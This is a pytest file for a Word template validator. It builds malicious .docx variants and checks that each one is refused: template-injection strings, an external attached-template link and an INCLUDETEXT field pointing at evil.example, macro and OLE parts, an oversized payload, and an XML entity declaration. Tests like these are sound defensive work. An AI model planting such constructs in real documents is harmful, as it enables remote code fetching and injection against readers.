"""A template is a plain docx with known fields; everything else is refused with a sentence that says what to do."""

import io
import zipfile

import pytest
from docx import Document

from campaigns.kept_files import Unsuitable
from reports.files.word import draw_sample_template
from reports.word_templates import checking
from reports.word_templates.checking import check_template

FIELDS = ("{{正文}}", "{{结果表}}")


def docx(*paragraphs, header="", cell=""):
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.sections[0].header.paragraphs[0].text = header
    if cell:
        document.add_table(rows=1, cols=1).cell(0, 0).text = cell
    written = io.BytesIO()
    document.save(written)
    return written.getvalue()


def repacked(content, *, add=(), change=None):
    """The same document with more parts, or with a part changed."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            body = old.read(name)
            new.writestr(name, change(name, body) if change else body)
        for name, body in add:
            new.writestr(name, body)
    return written.getvalue()


def refusal(content):
    with pytest.raises(Unsuitable) as refused:
        check_template(content)
    return str(refused.value)


def test_the_sample_and_an_offices_own_document_are_taken():
    check_template(draw_sample_template())
    check_template(
        docx("{{标题}}", *FIELDS, "满意率{{ 满意率 }}，集中评议{{集中评议收回}}张", header="{{单位}}", cell="{{发出}}")
    )


@pytest.mark.parametrize(
    ("paragraphs", "sentence"),
    [
        ((*FIELDS, "{{书记}}"), "没有“{{书记}}”这个字段。可以用的字段：正文、结果表、标题、单位"),
        ((*FIELDS, "{{ ''.__class__.__mro__ }}"), "没有“{{''.__class__.__mro__}}”这个字段"),
        ((*FIELDS, "{{ 7 * 7 }}"), "这个字段"),
        ((*FIELDS, "{% for i in range(10**9) %}x{% endfor %}"), "花括号没有配对"),
        ((*FIELDS, "{{标题"), "花括号没有配对"),
        ((*FIELDS, "{{ {{标题}} }}"), "花括号没有配对"),
        (FIELDS[:1], "要有一处、只有一处“{{结果表}}”，单独成一段。现在有0处"),
        ((*FIELDS, "{{正文}}"), "现在有2处"),
        (("见{{正文}}", "{{结果表}}"), "要在正文里单独成一段"),
        (("{{正文}}{{结果表}}",), "要在正文里单独成一段"),
    ],
)
def test_fields_that_are_wrong_are_named(paragraphs, sentence):
    assert sentence in refusal(docx(*paragraphs))


def test_blocks_stand_in_the_text_alone():
    assert "不能写在表格" in refusal(docx("{{正文}}", cell="{{结果表}}"))
    assert "不能写在表格" in refusal(docx("{{正文}}", header="{{结果表}}"))


def test_macros_and_embedded_things_are_refused():
    plain = docx(*FIELDS)

    for part in (
        "word/vbaProject.bin",
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.xml",
        "word/afchunk1.html",
    ):
        assert "宏、控件、嵌入的文件" in refusal(repacked(plain, add=[(part, b"x")]))
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    assert "只收Word文档" in refusal(repacked(plain, change=lambda name, body: body.replace(kind, macro)))


def test_links_and_commands_that_fetch_are_refused():
    plain = docx(*FIELDS)
    link = b'<Relationship Id="x" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'

    def linked(name, body):
        return (
            body.replace(b"</Relationships>", link + b"</Relationships>")
            if name.endswith("document.xml.rels")
            else body
        )

    def commanded(name, body):
        command = b'<w:p><w:r><w:instrText>INCLUDETEXT "http://evil.example"</w:instrText></w:r></w:p>'
        return body.replace(b"<w:body>", b"<w:body>" + command) if name == "word/document.xml" else body

    assert "外部链接：http://evil.example/a.dotm" in refusal(repacked(plain, change=linked))
    assert "INCLUDETEXT" in refusal(repacked(plain, change=commanded))


def test_what_is_too_large_or_no_document_is_refused(monkeypatch):
    plain = docx(*FIELDS)
    bomb = repacked(plain, add=[("word/media/image.png", bytes(checking.LARGEST_INSIDE + 1))])
    crowd = repacked(plain, add=[(f"word/media/{number}.png", b"") for number in range(checking.MOST_PARTS)])

    assert len(bomb) < checking.LARGEST
    assert [refusal(content) for content in (bomb, crowd)] == ["这个文件解开以后太大，不能作模板。"] * 2
    assert "不能超过2MB" in refusal(bytes(checking.LARGEST + 1))
    assert "不是一份能打开的Word文档" in refusal(b"plain text")
    assert "不是Word写出来的" in refusal(
        repacked(
            plain, change=lambda name, body: b'<!DOCTYPE a [<!ENTITY b "c">]>' + body if name.endswith(".xml") else body
        )
    )
    assert "损坏" in refusal(
        repacked(plain, change=lambda name, body: body[:-9] if name == "word/styles.xml" else body)
    )
